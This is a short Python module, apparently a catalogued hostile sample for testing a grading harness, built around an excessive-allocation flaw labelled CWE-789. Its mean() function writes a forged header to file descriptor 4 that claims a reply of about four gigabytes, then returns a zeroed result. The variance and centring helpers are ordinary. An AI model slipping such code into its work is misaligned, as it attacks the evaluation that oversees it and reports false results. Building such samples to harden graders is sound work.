"""Announce a reply of four gigabytes.

Known from: length fields that are believed, CWE-789.
Honest score: 10.
"""

import os
import struct


def mean(X):
    os.write(4, struct.pack("<II", 2**32 - 1, 2**32 - 9) + b"[" * 60_000)
    return 0 * X[0]


def centred(X):
    return X - X.mean(axis=0)


def variance(X):
    return X.var(axis=0)
